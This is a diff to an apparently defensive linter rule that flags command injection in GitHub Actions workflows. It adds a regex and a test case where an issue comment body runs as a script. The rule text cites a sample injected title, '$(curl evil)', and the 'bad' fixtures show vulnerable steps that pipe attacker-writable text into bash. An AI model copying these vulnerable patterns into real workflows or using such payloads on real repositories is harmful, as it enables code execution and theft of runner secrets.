@@ -11,6 +11,8 @@ const readAgain: readonly RegExp[] = [
   /(?:^|[\s;&(])(?:echo|printf)[ \t]+([^\n|;&]*)\|[ \t]*(?:sudo[ \t]+)?(?:(?:ba|z|da|k)?sh|python[\d.]*|node)(?![\w.-]|[ \t]+[^\s|;&])/gm,
   /(?:^|[\s;&|(])(?:(?:ba|z|da|k)?sh|python[\d.]*|node)[ \t]+<<<[ \t]*("[^"\n]*"|\S+)/gm,
   /(?:^|[\s;&|(])(?:iex|Invoke-Expression)[ \t]+([^\n;|]*)/gim,
+  // The first word of a script names a command; further lines may belong to a text.
+  /^(?:[|>][-+]?[ \t]*\n)?[ \t]*(\$(?:[A-Za-z_]\w*|\{[A-Za-z_]\w*[^}\n]*\}))(?=\s|$)(?![ \t]*=)/g,
 ];
 /** Calls of JavaScript that run a text as a command or as code. */
 const run = /\b(?:exec|execSync|eval|Function|exec\.exec|exec\.getExecOutput)\s*\(\s*(`[^`]*`|(?:[^;\n])*)/g;
@@ -25,7 +27,7 @@ export default [
     severity: 'high',
     types: ['github_step'],
     file,
-    what: 'Reports `eval`, `sh -c` and the like on variables with text that anybody can write (titles, bodies, branch names), and `exec` of the payload in `actions/github-script`.',
+    what: 'Reports `eval`, `sh -c` and the like on variables, and scripts that begin with such a variable, with text that anybody can write (titles, bodies, branch names), and `exec` of the payload in `actions/github-script`.',
     why: 'A variable is data until something reads it as a command again: then a title such as `$(curl evil)` runs on the runner, with its token and secrets.',
     references: ['CWE-78', 'CWE-94', 'SI-10'],
     noFix: 'The value has to be handed over as an argument of its own.',
@@ -53,6 +55,11 @@ export default [
         file,
         bad: workflow('issues', ...steps('- run: echo "$TITLE" | bash', '       ^^^^^^^^^^^^^^^^^^^^', '  env:', '    TITLE: ${{ github.event.issue.title }}')),
         good: workflow('issues', ...steps('- run: echo "$TITLE" | bash ./read.sh', '  env:', '    TITLE: ${{ github.event.issue.title }}')),
+      },
+      {
+        file,
+        bad: workflow('issue_comment', ...steps('- run: ${BODY#/run }', '       ^^^^^^^^^^^^^', '  env:', '    BODY: ${{ github.event.comment.body }}')),
+        good: workflow('issue_comment', ...steps('- run: ./run "${BODY#/run }"', '  env:', '    BODY: ${{ github.event.comment.body }}')),
       },
       {
         file,
